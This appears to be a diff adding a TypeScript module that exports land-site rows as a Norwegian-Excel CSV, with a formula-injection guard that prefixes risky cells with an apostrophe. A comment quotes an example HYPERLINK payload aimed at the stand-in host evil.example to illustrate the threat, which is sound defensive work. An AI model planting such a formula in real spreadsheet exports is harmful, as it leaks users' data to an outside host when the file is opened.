@@ -1,0 +1,89 @@
+// CSV of site rows for a Norwegian Excel: UTF-8 BOM, ';' separator, decimal comma, CRLF, Norwegian headers, formula guard.
+import { isAvailableLand } from './availability';
+import type { SiteRow } from './siteRows';
+import type { AbcFitVerdict } from './types';
+
+/** Excel reads a file as UTF-8 only when it starts with a byte-order mark; without it "Røyken" becomes "RÃ¸yken". */
+export const UTF8_BOM = '\uFEFF';
+/** A Norwegian Excel splits columns on ';' because ',' is its decimal mark. */
+export const EXCEL_SEPARATOR = ';';
+const CRLF = '\r\n';
+
+const FIT_NB: Record<AbcFitVerdict, string> = {
+  ok: 'passer',
+  partial: 'passer delvis',
+  mismatch: 'passer ikke',
+  unknown: 'kan ikke vurderes',
+};
+
+type Cell = { text: string } | { number: number | null; decimals: number };
+
+interface Column {
+  header: string;
+  value: (row: SiteRow) => Cell;
+}
+
+const text = (value: string | null | undefined): Cell => ({ text: value ?? '' });
+const num = (value: number | null | undefined, decimals: number): Cell => ({ number: value ?? null, decimals });
+
+/**
+ * The columns, in order. The figures use the report CLI's rounding (area_m2 and distances 2 decimals, daa 3, jobs
+ * whole), so a cell here is the report's value with a comma for the point.
+ */
+export const EXCEL_COLUMNS: readonly Column[] = [
+  { header: 'ID', value: (r) => text(r.id) },
+  { header: 'Navn', value: (r) => text(r.name) },
+  { header: 'Status', value: (r) => text(r.status) },
+  { header: 'ABC-type', value: (r) => text(r.abc) },
+  { header: 'Planstatus', value: (r) => text(r.readiness) },
+  { header: 'Ledig', value: (r) => text(isAvailableLand(r) ? 'ja' : 'nei') },
+  { header: 'Region', value: (r) => text(r.region) },
+  { header: 'Areal (m²)', value: (r) => num(r.areaM2, 2) },
+  { header: 'Areal (daa)', value: (r) => num(r.areaDaa, 3) },
+  { header: 'Nærmeste knutepunkt', value: (r) => text(r.hub?.name) },
+  { header: 'Knutepunkttype', value: (r) => text(r.hub?.type) },
+  { header: 'Avstand til knutepunkt fra kant (m)', value: (r) => num(r.hub?.distanceM, 2) },
+  { header: 'Avstand til knutepunkt fra midtpunkt (m)', value: (r) => num(r.hubCentroidDistanceM, 2) },
+  { header: 'Nærmeste togstasjon', value: (r) => text(r.nearestByType.tog?.name) },
+  { header: 'Avstand til togstasjon (m)', value: (r) => num(r.nearestByType.tog?.distanceM, 2) },
+  { header: 'Arbeidsplasser lav', value: (r) => num(Math.round(r.jobs.low), 0) },
+  { header: 'Arbeidsplasser middels', value: (r) => num(Math.round(r.jobs.mid), 0) },
+  { header: 'Arbeidsplasser høy', value: (r) => num(Math.round(r.jobs.high), 0) },
+  { header: 'Tilgjengelighetsklasse', value: (r) => text(r.fit.access) },
+  { header: 'ABC-vurdering', value: (r) => text(FIT_NB[r.fit.verdict]) },
+  { header: 'Begrunnelse', value: (r) => text(r.fit.reasonNb) },
+  { header: 'Midtpunkt lengdegrad', value: (r) => num(r.centroidLngLat[0], 6) },
+  { header: 'Midtpunkt breddegrad', value: (r) => num(r.centroidLngLat[1], 6) },
+];
+
+/** Fixed decimals with a decimal comma and no digit grouping (a grouped "12 345,6" is text to some Excel versions). */
+export function decimalComma(value: number, decimals: number): string {
+  return value.toFixed(decimals).replace('.', ',');
+}
+
+/**
+ * Spreadsheets run a cell that starts with = + - @ as a formula (tab and CR can hide such a start). Names come from
+ * data files anyone can load, so a name like `=HYPERLINK("http://evil.example/?"&A1;"Klikk")` would send data away,
+ * or start a program through DDE, when the file is opened. A leading apostrophe makes Excel and LibreOffice read the
+ * cell as text. Only text cells are guarded: our own numbers never start with those characters.
+ */
+export function guardFormula(value: string): string {
+  return /^[=+\-@\t\r]/.test(value) ? `'${value}` : value;
+}
+
+/** Quotes a field holding the separator, a double quote or a line break, doubling the quotes inside (RFC 4180). */
+export function quoteField(value: string): string {
+  return /[;"\r\n]/.test(value) ? `"${value.replaceAll('"', '""')}"` : value;
+}
+
+function cellText(cell: Cell): string {
+  if ('text' in cell) return quoteField(guardFormula(cell.text));
+  return cell.number === null ? '' : decimalComma(cell.number, cell.decimals);
+}
+
+/** The whole file: BOM, header, one CRLF-terminated line per row, in the given order. */
+export function formatExcelCsv(rows: readonly SiteRow[]): string {
+  const lines = [EXCEL_COLUMNS.map((c) => quoteField(c.header)).join(EXCEL_SEPARATOR)];
+  for (const row of rows) lines.push(EXCEL_COLUMNS.map((c) => cellText(c.value(row))).join(EXCEL_SEPARATOR));
+  return `${UTF8_BOM}${lines.join(CRLF)}${CRLF}`;
+}
